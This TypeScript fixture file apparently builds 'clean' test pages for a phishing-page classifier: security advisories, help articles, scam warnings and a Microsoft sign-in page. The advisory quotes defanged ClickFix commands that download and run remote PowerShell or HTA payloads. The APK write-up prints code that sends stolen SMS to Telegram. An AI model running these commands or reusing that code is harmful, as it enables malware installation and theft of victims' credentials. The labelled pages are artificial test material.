import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';
import { doc, wordmark, emblem, goiHeader, GOI_CSS, goiFooter, FONTS } from '../parts/yn-kit.js';

// Advisories, IT help pages and write-ups that quote malicious commands and messages; real mail sign-ins.
const ARTICLE_CSS = `.hd{padding:14px 30px;border-bottom:1px solid #e5e5e5;display:flex;justify-content:space-between;align-items:center}.hd nav a{margin-left:16px;text-decoration:none;font-size:14px;color:#444}
.art{max-width:820px;margin:30px auto;padding:0 20px;font-size:16.5px;line-height:1.7}.art h1{font-size:32px;line-height:1.25}.meta{color:#777;font-size:14px}
pre{background:#1e1e2e;color:#e6e6e6;padding:14px;border-radius:6px;overflow:auto;font-size:13.5px;white-space:pre-wrap;word-break:break-all}code{background:#f1f1f4;padding:1px 5px;border-radius:3px;font-size:14px}
blockquote{border-left:4px solid #d0d0d8;margin:14px 0;padding:6px 14px;color:#444;background:#fafafb}table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #ddd;padding:6px 8px;text-align:left}`;

export const entries: Entry[] = [
{
  id: 'yn-clean-certin-advisory-clickfix-commands',
  label: 'clean',
  kind: 'security-advisory',
  url: 'https://www.cert-in.org.in/s2cMainServlet?pageid=PUBVLNOTES02&VLCODE=CIAD-2025-0024',
  body: doc({
    title: 'CERT-In Advisory CIAD-2025-0024: Fake CAPTCHA (ClickFix) campaigns targeting Indian users',
    css: GOI_CSS + ARTICLE_CSS,
    body: `${goiHeader('भारतीय कंप्यूटर आपात प्रतिक्रिया दल', 'Indian Computer Emergency Response Team (CERT-In), MeitY')}
<div class="art"><h1>CERT-In Advisory CIAD-2025-0024</h1><p class="meta">Original Issue Date: June 12, 2025 · Severity: High</p>
<h2>Fake CAPTCHA ("ClickFix") campaigns via compromised educational and business websites</h2>
<p>CERT-In has observed campaigns in which compromised WordPress websites of colleges, coaching institutes and chartered accountant firms display a fake "I'm not a robot" check or a fake browser/document error. When the user clicks, a malicious command is silently copied to the clipboard and the user is instructed to press <b>Windows + R</b>, paste with <b>Ctrl + V</b> and press <b>Enter</b>.</p>
<h3>Observed commands (defanged)</h3>
<pre>powershell -w hidden -nop -c "iex (iwr -UseBasicParsing 'hxxps://cdn-jsdelivr-stat[.]com/v/recaptcha.ps1')" # ✅ I am not a robot - reCAPTCHA Verification ID: 7741-2289</pre>
<pre>mshta hxxps://office-ext-cdn[.]com/word/fix.hta # Word Online extension installer</pre>
<pre>cmd /c start /min powershell -w 1 -ep bypass -c "$r=irm hxxps://kota-cdn-static[.]com/c.txt;iex $r"</pre>
<p>The second stage installs information stealers (Lumma, Vidar) and remote access trojans that harvest browser-saved passwords, banking sessions and cryptocurrency wallets.</p>
<h3>Countermeasures</h3><ul><li>No legitimate website requires you to run commands to prove you are human.</li><li>Organisations may disable the Run dialog via Group Policy (<code>User Configuration &gt; Administrative Templates &gt; Start Menu and Taskbar &gt; Remove Run menu from Start Menu</code>) and enable PowerShell Constrained Language Mode.</li><li>Monitor for <code>mshta.exe</code> and <code>powershell.exe</code> spawned by <code>explorer.exe</code> with network arguments.</li><li>Website owners should update WordPress core, themes and plugins and check for injected scripts.</li></ul>
<p>Report incidents to incident@cert-in.org.in.</p></div>
${goiFooter('CERT-In, Ministry of Electronics &amp; IT', '12-Jun-2025')}`,
  }),
},
{
  id: 'yn-clean-university-it-helpdesk-powershell-wifi',
  label: 'clean',
  kind: 'it-help-commands',
  url: 'https://helpdesk.annauniv.edu/kb/eduroam-windows-troubleshooting',
  body: doc({
    title: 'Troubleshooting eduroam / campus Wi-Fi on Windows | CTDT IT Helpdesk, Anna University',
    css: ARTICLE_CSS + `.kbd{border:1px solid #bbb;border-bottom-width:2px;border-radius:3px;padding:0 5px;font-family:monospace;font-size:13px}.cp{float:right;font-size:12px}`,
    body: `<div class="hd"><b>CTDT IT Helpdesk · Anna University</b><nav><a href="#">Knowledge Base</a><a href="#">Raise a Ticket</a><a href="#">Status</a></nav></div>
<div class="art"><h1>Troubleshooting eduroam / campus Wi-Fi on Windows 10 and 11</h1><p class="meta">Updated 3 June 2025 · Applies to: students, faculty, staff</p>
<p>If your laptop connects to <b>AU-WiFi</b> or <b>eduroam</b> but shows "No internet", try the following steps in order. You need to be logged in to your own laptop; do not run these on lab computers.</p>
<h3>1. Forget and re-add the network</h3><p>Press <span class="kbd">Win</span> + <span class="kbd">R</span>, type <code>cmd</code> and press Enter. Then run:</p>
<pre>netsh wlan delete profile name="eduroam"
netsh wlan show profiles</pre>
<h3>2. Reset DNS and the IP stack</h3><p>Open <b>Windows Terminal (Admin)</b> and run <button class="cp" onclick="navigator.clipboard.writeText(document.getElementById('c2').innerText)">Copy</button></p>
<pre id="c2">ipconfig /release
ipconfig /flushdns
ipconfig /renew
netsh winsock reset
netsh int ip reset</pre><p>Restart the laptop afterwards.</p>
<h3>3. Install the campus CA certificate (PowerShell)</h3><p>The certificate is published on this helpdesk. Verify the thumbprint before installing:</p>
<pre>Invoke-WebRequest -Uri https://helpdesk.annauniv.edu/files/AU-Root-CA-2024.cer -OutFile $env:TEMP\\AU-Root-CA-2024.cer
Get-FileHash $env:TEMP\\AU-Root-CA-2024.cer -Algorithm SHA256
# Expected: 7F3A9C1D0E5B22A41C6F8D90B3E7A15D2C4F6E88A90B1C2D3E4F5A6B7C8D9E0F
Import-Certificate -FilePath $env:TEMP\\AU-Root-CA-2024.cer -CertStoreLocation Cert:\\LocalMachine\\Root</pre>
<blockquote>The IT helpdesk will never ask you to paste commands to "verify you are human" or to fix a web page. If a website asks you to do that, close it and report it to helpdesk@annauniv.edu.</blockquote>
<p>Still stuck? Raise a ticket with your roll number and MAC address (<code>getmac /v</code>).</p></div>`,
  }),
},
{
  id: 'yn-clean-security-blog-pmkisan-apk-analysis',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://blog.suraksha-labs.in/2025/06/pm-kisan-rto-challan-apk-trojans/',
  body: doc({
    title: 'Inside the "PM Kisan" and "RTO Challan" APK trojans spreading on WhatsApp | Suraksha Labs',
    css: ARTICLE_CSS,
    body: `<div class="hd"><b>Suraksha Labs</b><nav><a href="#">Research</a><a href="#">Advisories</a><a href="#">About</a></nav></div>
<div class="art"><h1>Inside the "PM Kisan" and "RTO Challan" APK trojans spreading on WhatsApp</h1><p class="meta">By Aditi Rao · 9 June 2025 · 11 min read</p>
<p>Over the last quarter we analysed 214 Android samples distributed through WhatsApp groups with names like <i>PM Kisan Yojana.apk</i>, <i>RTO Traffic Challan.apk</i>, <i>SBI Rewards.apk</i> and <i>Bill Update.apk</i>. They share a codebase: a WebView that shows a cloned bank or government form, plus an SMS receiver that forwards every OTP to a Telegram bot.</p>
<h2>Permissions requested</h2><pre>android.permission.RECEIVE_SMS
android.permission.READ_SMS
android.permission.SEND_SMS
android.permission.READ_PHONE_STATE
android.permission.SYSTEM_ALERT_WINDOW</pre>
<h2>Exfiltration</h2><p>The decompiled <code>SmsReceiver</code> class posts each message to the Telegram Bot API:</p>
<pre>String url = "https://api.telegram.org/bot" + BOT_TOKEN + "/sendMessage";
JSONObject body = new JSONObject();
body.put("chat_id", CHAT_ID);
body.put("text", "New SMS from " + sender + "\\n" + msg);
post(url, body);</pre>
<p>The WebView form asks for name, mobile number, Aadhaar, debit card number, expiry, CVV and ATM PIN — the same fields the phishing site <code>pm-kisan-ekyc[.]in[.]net</code> asks for.</p>
<h2>Indicators</h2><table><tr><th>Package</th><th>Label</th><th>SHA-256 (truncated)</th></tr><tr><td>com.rto.challan.pay</td><td>RTO Traffic Challan</td><td>9b1f…e07a</td></tr><tr><td>com.pmkisan.yojana.kyc</td><td>PM Kisan Yojana</td><td>41cc…8d12</td></tr><tr><td>com.whatsapp.pink.update</td><td>WhatsApp Pink</td><td>d0a2…5b3e</td></tr></table>
<h2>Advice</h2><ul><li>Never install APK files received on WhatsApp or SMS.</li><li>Keep "Install unknown apps" disabled for WhatsApp and browsers.</li><li>If installed, switch to airplane mode, uninstall, and call your bank.</li></ul></div>`,
  }),
},
{
  id: 'yn-clean-bank-blog-qr-scam-hi',
  label: 'clean',
  kind: 'security-advice',
  url: 'https://www.bankofbaroda.in/hi-in/banking-mantra/digital-banking/articles/qr-code-scam-se-kaise-bache',
  body: doc({
    title: 'QR कोड स्कैम से कैसे बचें | बैंकिंग मंत्र | बैंक ऑफ़ बड़ौदा',
    lang: 'hi',
    font: FONTS.deva,
    css: ARTICLE_CSS + `.hd{background:#f26522;color:#fff;border:0}.hd nav a{color:#fff}`,
    body: `<div class="hd"><b>बैंक ऑफ़ बड़ौदा · Bank of Baroda</b><nav><a href="#">व्यक्तिगत</a><a href="#">व्यवसाय</a><a href="#">English</a></nav></div>
<div class="art"><h1>QR कोड स्कैम से कैसे बचें</h1><p class="meta">बैंकिंग मंत्र · 5 मिनट में पढ़ें</p>
<p>ऑनलाइन मार्केटप्लेस पर सामान बेचने वालों को अक्सर "खरीदार" बनकर ठग QR कोड भेजते हैं और कहते हैं कि इसे स्कैन करके UPI PIN डालें ताकि पैसे आपके खाते में आ जाएँ। याद रखें: <b>पैसे प्राप्त करने के लिए कभी भी QR स्कैन करने या UPI PIN डालने की ज़रूरत नहीं होती।</b></p>
<blockquote>"सर मैं आर्मी में हूँ, आपका सोफा खरीदना है। मैं QR भेज रहा हूँ, उसे स्कैन करके PIN डालिए, ₹12,000 आपके खाते में आ जाएँगे।"</blockquote>
<blockquote>"Google Pay Rewards: ₹3,500 cashback भेजा गया है। Receive पर टैप करें और अपने UPI ऐप में approve करें।"</blockquote>
<h2>सुरक्षित रहने के उपाय</h2><ul><li>कलेक्ट रिक्वेस्ट को approve करने से पहले ध्यान से पढ़ें — "Pay" का मतलब है आपके खाते से पैसा जाएगा।</li><li>अनजान व्यक्ति के भेजे QR कोड स्कैन न करें।</li><li>धोखाधड़ी होने पर तुरंत 1930 पर कॉल करें या cybercrime.gov.in पर शिकायत करें, और बैंक का टोल-फ्री नंबर 1800 5700 पर संपर्क करें।</li></ul></div>`,
  }),
},
{
  id: 'yn-clean-sebi-investor-awareness-vip-tips',
  label: 'clean',
  kind: 'regulator-advice',
  url: 'https://investor.sebi.gov.in/securities-market-fraud.html',
  body: doc({
    title: 'Beware of Securities Market Frauds | SEBI Investor Website',
    css: GOI_CSS + ARTICLE_CSS + `.box{border:1px solid #d6e2f2;background:#f4f8fd;border-radius:6px;padding:12px 16px;margin:12px 0}`,
    body: `${goiHeader('भारतीय प्रतिभूति और विनिमय बोर्ड', 'Securities and Exchange Board of India — Investor Website')}
<div class="art"><h1>Beware of "VIP tips" groups and fake trading apps</h1>
<p>Investors are being added to WhatsApp and Telegram groups that claim to give "sure-shot" stock tips, "institutional accounts" and guaranteed IPO allotments. After a few small wins shown in the group, members are asked to download an app and deposit money into accounts of unrelated individuals or companies. Withdrawals are then blocked until "taxes" or "fees" are paid.</p>
<div class="box"><b>Messages reported by investors:</b><br>"Join FREE VIP group by Prof. Rakesh Mehta – Daily 3-5 sure shot intraday calls – 94% accuracy"<br>"Your IPO allotment in institutional quota is confirmed. Pay ₹1,76,400 before 3 PM or account will be frozen."</div>
<h2>How to verify</h2><ul><li>Check the registration of any investment adviser or research analyst on the SEBI intermediary portal.</li><li>Trade only through SEBI-registered brokers and their official apps. Money should go only to the broker's designated client bank account.</li><li>No one can guarantee returns in the securities market. As per SEBI's study, 9 out of 10 individual traders in equity F&amp;O incurred net losses.</li></ul>
<p>Lodge complaints on SCORES (scores.sebi.gov.in) or call the SEBI toll-free helpline 1800 266 7575.</p></div>
${goiFooter('Securities and Exchange Board of India', '05-Jun-2025')}`,
  }),
},
{
  id: 'yn-clean-microsoft-login-own-domain',
  label: 'clean',
  kind: 'brand-login-own-domain',
  url: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?prompt=select_account&client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=openid%20profile&redirect_uri=https%3A%2F%2Fwww.office.com%2Flandingv2',
  body: doc({
    title: 'Sign in to your account',
    css: `body{background:#f2f2f2 linear-gradient(135deg,#f2f2f2,#e6ecf5);font-family:'Segoe UI','Helvetica Neue',Arial}.b{width:440px;margin:100px auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;width:22px;flex-wrap:wrap}.ms i{width:10px;height:10px;display:block}
h1{font-size:24px;font-weight:600;margin:16px 0 10px}input{width:100%;border:0;border-bottom:1px solid #666;height:36px;font-size:15px;outline:none}.l{font-size:13px;margin:16px 0;color:#0067b8}button{background:#0067b8;color:#fff;border:0;width:108px;height:32px;float:right}.o{width:440px;margin:16px auto;background:#fff;padding:14px 44px;font-size:15px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.f{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px;color:#444}`,
    body: `<div class="b"><div style="display:flex;align-items:center;gap:8px"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><span style="color:#737373;font-size:18px;font-weight:600">Microsoft</span></div>
<h1>Sign in</h1><form name="f1" method="post" action="/common/login"><input type="email" name="loginfmt" id="i0116" placeholder="Email, phone, or Skype" autocomplete="username" required><div class="l">No account? <a href="https://signup.live.com/">Create one!</a><br><a href="#">Can't access your account?</a></div><button>Next</button><div style="clear:both"></div></form></div>
<div class="o">🔑 Sign-in options</div>
<div class="f">Terms of use · Privacy &amp; cookies · ...</div>`,
  }),
},
];
